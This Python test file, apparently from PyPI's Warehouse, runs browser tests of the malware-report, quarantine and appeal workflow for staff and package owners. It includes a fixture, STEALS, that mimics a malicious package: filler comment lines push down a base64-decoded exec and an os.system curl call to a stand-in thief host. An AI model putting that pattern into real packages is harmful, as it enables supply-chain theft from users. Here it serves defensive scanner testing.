"""A malicious upload from its report to its verdict and back, by keyboard."""

import json
import time
import urllib.request

import pytest

from tests.browser.test_account import sign_in
from tests.browser.test_factors import troubles_of
from tests.browser.test_pages import AXE
from tests.browser.test_project import overflow
from tests.builders.wheels import wheel
from warehouse.accounts.models import User
from warehouse.http import offline
from warehouse.packaging.models import File
from warehouse.scanning.tasks import inspect_file

JSON = "application/vnd.pypi.simple.v1+json"


def simple(index, name):
    """Return what installers are told of a project."""
    request = urllib.request.Request(
        f"{index.url}/simple/{name}/", headers={"Accept": JSON}
    )
    with urllib.request.urlopen(request, timeout=30) as answer:
        return json.load(answer)


def is_shown(index, name):
    return bool(simple(index, name)["files"])


def fits(page):
    assert overflow(page) <= 0, page.url
    if AXE.exists():
        assert troubles_of(page) == [], page.url


@pytest.fixture
def upload(index):
    """Publishes a project of somebody's own."""

    def upload(name, source=b""):
        token = index.token(index.person(f"owner-of-{name}"))
        content = wheel(name, extra={f"{name}/__init__.py": source})
        index.upload(token, f"{name}-1.0-py3-none-any.whl", content, name=name)

    return upload


@pytest.fixture
def report(chromium, index):
    """Reports a project as somebody who is signed in does."""

    def report(name):
        context = chromium.new_context(base_url=index.url)
        page = context.new_page()
        sign_in(page, index.person(f"reporter-of-{name}"))
        page.goto(f"/project/{name}/")
        page.get_by_role("link", name="Report this project as malware").click()
        page.get_by_label("What it does").fill("It steals keys when it is imported.")
        fits(page)
        page.get_by_role("button", name="Send the report").click()
        page.wait_for_url(f"**/project/{name}/")
        context.close()

    return report


@pytest.mark.parametrize(
    ("width", "scheme"),
    [pytest.param(1440, "light", marks=pytest.mark.slow), (360, "dark")],
)
def test_a_reported_project_is_gone_at_once_and_comes_back(
    page, index, upload, report, width, scheme
):
    name = f"trap{width}"
    upload(name)
    report(name)
    staff = index.person(f"staff-{width}")
    with offline(index.registry) as request:
        request.db.query(User).filter_by(username=staff).one().is_superuser = True
    page.set_viewport_size({"width": width, "height": 800})
    page.emulate_media(color_scheme=scheme)
    sign_in(page, staff)
    page.goto("/admin/malware_reports/")
    fits(page)
    page.get_by_role("link", name=name, exact=True).focus()
    page.keyboard.press("Enter")
    page.get_by_role("heading", name=name).wait_for()
    fits(page)
    page.keyboard.press("3")
    decides(page, "It takes keys.")
    page.get_by_role("status").get_by_text(name).first.wait_for()
    begun = time.monotonic()
    assert not is_shown(index, name)
    assert time.monotonic() - begun < 1
    page.goto(f"/admin/projects/{name}/remove_from_quarantine/")
    decides(page, "It was a test.")
    page.wait_for_url(f"**/admin/projects/{name}/")
    assert is_shown(index, name)


STEALS = (
    b"import base64, os\n"
    + b"# nothing to see here\n" * 60
    + b"exec(base64.b64decode(b'cHJpbnQoMSk='))\n"
    + b"os.system('curl https://thief.invalid')\n"
)


def test_a_report_is_worked_through_by_keyboard(page, index, upload, report):
    for name, source in (("first", STEALS), ("second", b"x = 1\n")):
        upload(name, source)
        report(name)
    staff = index.person("night-shift")
    with offline(index.registry) as request:
        for file in request.db.query(File):
            inspect_file(request, str(file.id))
        request.db.query(User).filter_by(username=staff).one().is_superuser = True
    page.set_viewport_size({"width": 360, "height": 800})
    sign_in(page, staff)
    page.goto("/admin/malware_reports/")
    page.get_by_role("link", name="first", exact=True).focus()
    page.keyboard.press("Enter")
    page.get_by_role("heading", name="Look here first").wait_for()
    fits(page)
    page.keyboard.press("o")
    page.wait_for_url("**/?member=first/__init__.py#L62")
    fits(page)
    page.keyboard.press("n")
    assert page.evaluate("document.activeElement.id") == "L63"
    page.keyboard.press("p")
    assert page.evaluate("document.activeElement.id") == "L62"
    page.keyboard.press("3")
    decides(page, "It runs what it hides.")
    page.get_by_role("status").get_by_text("first").first.wait_for()
    assert not is_shown(index, "first")
    page.get_by_role("heading", name="second").wait_for()


@pytest.fixture
def staff(page, index):
    """A tab in which an administrator is signed in."""
    name = index.person("staff-who-decides")
    with offline(index.registry) as request:
        request.db.query(User).filter_by(username=name).one().is_superuser = True
    sign_in(page, name)
    return page


@pytest.fixture
def owner_of(chromium, index):
    """Opens a phone on which the owner of a project is signed in."""
    contexts = []

    def owner_of(name):
        contexts.append(chromium.new_context(base_url=index.url))
        tab = contexts[-1].new_page()
        tab.set_viewport_size({"width": 360, "height": 800})
        sign_in(tab, f"owner-of-{name}")
        return tab

    yield owner_of
    for each in contexts:
        each.close()


def test_an_owner_appeals_and_the_release_is_back(index, upload, staff, owner_of):
    upload("misjudged")
    quarantines(staff, "misjudged")
    assert not is_shown(index, "misjudged")
    owner = owner_of("misjudged")
    appeals(owner, "misjudged")
    accepts(staff, "misjudged")
    assert is_shown(index, "misjudged")
    owner.reload()
    owner.get_by_text("You are right.").wait_for()
    fits(owner)


def quarantines(page, name):
    """Hide a release, and tell its owners why, who see it as it is typed."""
    page.goto(f"/admin/projects/{name}/release/1.0/quarantine/")
    page.get_by_label("Kind of reason").select_option("malware")
    page.get_by_label("What its owners will read").fill("It reads keys.")
    shown = page.get_by_label("As its owners will see it")
    shown.get_by_text("It reads keys.").wait_for()
    decides(page, "Seen by the scanner.")
    page.get_by_role("status").get_by_text("is in quarantine").wait_for()


def appeals(page, name):
    """Read why, and appeal."""
    page.goto("/manage/decisions/")
    fits(page)
    page.goto(f"/manage/project/{name}/history/")
    page.get_by_text("It reads keys.").wait_for()
    fits(page)
    page.get_by_role("link", name="Appeal").click()
    page.get_by_label("Why it was wrong").fill("These are keys of a test, see tests/.")
    fits(page)
    page.get_by_role("button", name="Appeal").click()
    page.get_by_text("waits for the administrators").wait_for()


def accepts(page, name):
    """Find the appeal on the first page, accept it, and undo what was done."""
    page.goto("/admin/")
    page.get_by_role("main").get_by_role("link", name="Appeals").first.click()
    page.get_by_role("link", name=f"{name} 1.0").click()
    fits(page)
    page.get_by_role("link", name="Accept").click()
    page.get_by_label("What the owners will read").fill("You are right.")
    decides(page, "Only tests.")
    page.wait_for_url("**/remove_from_quarantine/")
    decides(page, "The appeal was right.")
    page.get_by_role("status").get_by_text("no longer in quarantine").wait_for()


def decides(page, reason):
    """Fill in the reason and send the form, without a mouse."""
    field = page.get_by_label("Reason, for the record")
    field.focus()
    page.keyboard.type(reason)
    fits(page)
    page.get_by_role("main").locator("form#action button[type=submit]").focus()
    page.keyboard.press("Enter")
